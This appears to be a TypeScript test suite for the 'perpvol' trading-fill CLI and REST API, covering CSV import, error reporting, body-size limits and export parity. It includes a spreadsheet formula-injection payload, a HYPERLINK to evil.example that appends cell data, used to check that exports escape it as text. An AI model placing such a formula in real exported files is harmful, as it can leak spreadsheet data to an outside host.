/**
 * `perpvol import` and `perpvol export` as a user runs them (the real bin, a real data folder), and
 * the REST face of the same operations: the import route takes a file far above the API's usual
 * 64 KB body limit, and `perpvol export` writes the very bytes the REST export serves.
 */
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, before, describe, test } from 'node:test';
import { BODY_LIMIT_BYTES } from '../../src-main/server/app.ts';
import { startTestServer, type TestServer } from '../server/harness.ts';
import { makeTempDir, openTestCore, TEST_MASTER_KEY } from '../sync/fixtures/sync-harness.ts';
import { runPerpvol } from '../support/perpvol-cli.ts';

/** A label a spreadsheet would run as a formula: exports must write it as text. */
const FORMULA_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"Bybit")';
const FIXTURES = fileURLToPath(new URL('../import/fixtures/', import.meta.url));

/** A Bybit export of `rows` fills, one a minute from 2024-11-16 00:00 UTC. */
function bigBybitCsv(rows: number): string {
  const lines = ['Contracts,Order No.,Direction,Filled Qty,Filled Price,Filled Type,Fees Paid,Trasaction ID,Transaction Time(UTC)'];
  for (let i = 0; i < rows; i++) {
    const at = new Date(Date.UTC(2024, 10, 16) + i * 60_000).toISOString();
    lines.push(`BTCUSDT,order-${i},${i % 2 ? 'SELL' : 'BUY'},0.010,60000.${String(i % 100).padStart(2, '0')},Trade,0.120000,big-${i}-padding-to-look-like-a-real-uuid-0000,${at.slice(11, 16)} ${at.slice(0, 10)}`);
  }
  return `${lines.join('\r\n')}\r\n`;
}

describe('perpvol import and export', () => {
  let dir: Awaited<ReturnType<typeof makeTempDir>>;
  let env: NodeJS.ProcessEnv;
  let accountId: string;

  before(async () => {
    dir = await makeTempDir('perpvol-cli-import-');
    env = { PERPVOL_DATA_DIR: dir.path, PERPVOL_MASTER_KEY: TEST_MASTER_KEY, PERPVOL_SECRET_STORE: 'file', PERPVOL_DATABASE_URL: '' };
    const core = await openTestCore(dir.path);
    const account = await core.service.addAccount({ exchange: 'bybit', label: FORMULA_LABEL, credentials: { apiKey: 'k', apiSecret: 's' }, validate: false });
    accountId = account.id;
    await core.close();
  });
  after(async () => {
    await dir.remove();
  });

  test('importing an export prints what was stored, and importing it again stores nothing more', async () => {
    const file = join(FIXTURES, 'bybit-usdt-perp-trade-history.csv');
    const first = await runPerpvol(['import', accountId, file, '--json'], env);
    assert.equal(first.code, 0, first.stderr);
    assert.deepEqual(JSON.parse(first.stdout), {
      imported: 3, duplicates: 0, skipped: 1, days: ['2024-11-15', '2024-11-16'], from: '2024-11-15T23:30:00.000Z', to: '2024-11-16T22:59:00.000Z',
    });
    const again = await runPerpvol(['import', accountId, file], env);
    assert.equal(again.code, 0, again.stderr);
    assert.match(again.stdout, /^Imported 0 fills \(the file covers 2024-11-15 to 2024-11-16\); 3 already stored/);
  });

  test('a bad row fails the command with its line and column, and nothing is imported', async () => {
    const bad = await runPerpvol(['import', accountId, join(FIXTURES, 'bybit-bad-side.csv')], env);
    assert.equal(bad.code, 1);
    assert.match(bad.stderr, /^perpvol: Line 3, column "Direction": expected Buy or Sell/);
    const fills = await runPerpvol(['export', 'fills', '--account', accountId], env);
    assert.doesNotMatch(fills.stdout, /ok-1/);
  });

  test('a file that does not exist is a clear error', async () => {
    const missing = await runPerpvol(['import', accountId, join(FIXTURES, 'nope.csv')], env);
    assert.equal(missing.code, 1);
    assert.match(missing.stderr, /Cannot read .*nope\.csv \(ENOENT\)/);
  });

  describe('beside the REST API', () => {
    let server: TestServer;
    before(async () => {
      server = await startTestServer({ dataDir: dir.path });
    });
    after(async () => {
      await server.close();
    });

    test('POST /accounts/:id/import takes a CSV far above the usual body limit', async () => {
      const csv = bigBybitCsv(3_000);
      assert.ok(Buffer.byteLength(csv) > 4 * BODY_LIMIT_BYTES);
      const answer = await server.call('POST', `/api/v1/accounts/${accountId}/import`, { body: { format: 'bybit', csv } });
      assert.equal(answer.status, 200, answer.text);
      assert.equal(answer.json.imported, 3_000);
      const other = await server.call('POST', '/api/v1/accounts', { body: { csv } });
      assert.equal(other.status, 413, 'other routes keep the small limit');
    });

    test('the REST import explains a file of the wrong exchange as a 400', async () => {
      const csv = await readFile(join(FIXTURES, 'hyperliquid-trade-history.csv'), 'utf8');
      const answer = await server.call('POST', `/api/v1/accounts/${accountId}/import`, { body: { csv } });
      assert.equal(answer.status, 400);
      assert.equal(answer.json.error.code, 'import_exchange_mismatch');
    });

    test('perpvol export writes the same bytes as the REST export, to a file or to stdout', async () => {
      const out = join(dir.path, 'fills.csv');
      const toFile = await runPerpvol(['export', 'fills', '--account', accountId, '--out', out], env);
      assert.equal(toFile.code, 0, toFile.stderr);
      const rest = await server.call('GET', `/api/v1/export/fills.csv?accountId=${accountId}`);
      assert.equal(await readFile(out, 'utf8'), rest.text);
      assert.equal(rest.text.trim().split('\n').length, 1 + 3 + 3_000);

      const daily = await runPerpvol(['export', 'daily', '--from', '2024-11-14', '--to', '2024-11-18', '--group-by', 'symbol'], env);
      const restDaily = await server.call('GET', '/api/v1/export/daily.csv?from=2024-11-14&to=2024-11-18&groupBy=symbol');
      assert.equal(daily.code, 0, daily.stderr);
      assert.equal(daily.stdout, restDaily.text);
      assert.match(daily.stdout, /^2024-11-16,BTCUSDT,BTCUSDT,/m);

      const byAccount = await runPerpvol(['export', 'daily', '--from', '2024-11-16', '--to', '2024-11-16', '--group-by', 'account'], env);
      const restByAccount = await server.call('GET', '/api/v1/export/daily.csv?from=2024-11-16&to=2024-11-16&groupBy=account');
      assert.equal(byAccount.code, 0, byAccount.stderr);
      assert.equal(byAccount.stdout, restByAccount.text);
      assert.ok(byAccount.stdout.includes(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Bybit"") (Bybit)",`), 'the formula label is written as text');
    });

    test('export fills --exchange keeps only that exchange’s rows', async () => {
      const none = await runPerpvol(['export', 'fills', '--exchange', 'hyperliquid'], env);
      assert.equal(none.code, 0, none.stderr);
      assert.equal(none.stdout.trim().split('\n').length, 1, 'the header only');
    });
  });
});
